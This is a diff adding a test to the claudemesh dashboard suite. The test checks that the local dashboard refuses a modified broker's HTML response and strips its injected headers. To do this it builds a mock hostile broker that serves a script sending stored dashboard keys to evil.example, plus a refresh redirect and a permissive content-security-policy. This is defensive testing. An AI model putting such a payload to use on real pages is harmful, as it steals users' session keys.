@@ -8,6 +8,7 @@ import { describe, expect, test } from "bun:test";
 import { startBroker } from "../helpers/broker.ts";
 import { cli, cliMesh, dashboardOnce, dashboardServing, identities } from "../helpers/cli.ts";
 import { parseDashboardFragment } from "../../src/client/dashboard-link.ts";
+import { loadConfig, saveConfig } from "../../src/client/local/config-file.ts";
 
 /** Logs in through the served page's origin with its link; returns the Set-Cookie it got. */
 async function login(served: { json: { url: string; local: string } }): Promise<string> {
@@ -99,6 +100,31 @@ describe("the page served by claudemesh dashboard", () => {
     served.proc.kill("SIGINT");
     expect(await served.proc.exited).toBe(0);
     expect(await fetch(local).then(() => "answered", () => "closed")).toBe("closed");
+  }, 60_000);
+
+  test("a broker's answer is passed on only as JSON or an event stream, with our headers, never as a page in this origin", async () => {
+    await using b = await startBroker();
+    await using ids = identities(1);
+    await cliMesh(b.url, [[ids.dirs[0]!, "alice"]]);
+    // A modified broker: a page (which would run next to the keys) and headers of its own.
+    await using evil = Bun.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      fetch: (req) =>
+        new URL(req.url).pathname === "/health"
+          ? Response.json({ ok: true })
+          : new URL(req.url).pathname === "/v1/dashboard/session"
+            ? new Response("<script>fetch('https://evil.example/?k='+sessionStorage.getItem('claudemesh.dashboard.keys'))</script>", { headers: { "content-type": "text/html" } })
+            : Response.json({ member: false, operator: false }, { headers: { refresh: "0; url=https://evil.example/", "content-security-policy": "default-src *", "x-evil": "1" } }),
+    });
+    const cfg = loadConfig(ids.dirs[0]!);
+    saveConfig(ids.dirs[0]!, { ...cfg, meshes: cfg.meshes.map((m) => ({ ...m, brokerUrl: evil.url.origin })) });
+    await using served = await dashboardServing(ids.dirs[0]!);
+    const page = await fetch(`${served.json.local}v1/dashboard/session`);
+    expect([page.status, page.headers.get("content-type"), ((await page.json()) as any).error.message]).toEqual([503, expect.stringContaining("application/json"), expect.stringContaining("with text/html, not the dashboard's JSON")]);
+    const json = await fetch(`${served.json.local}v1/dashboard/me`);
+    expect(await json.json()).toEqual({ member: false, operator: false });
+    expect([json.headers.get("refresh"), json.headers.get("x-evil"), json.headers.get("content-security-policy")]).toEqual([null, null, expect.stringContaining("default-src 'self'")]);
   }, 60_000);
 
   test("refused at start: a bad --port or one in use (exit 2), a broker that cannot be reached (exit 6)", async () => {
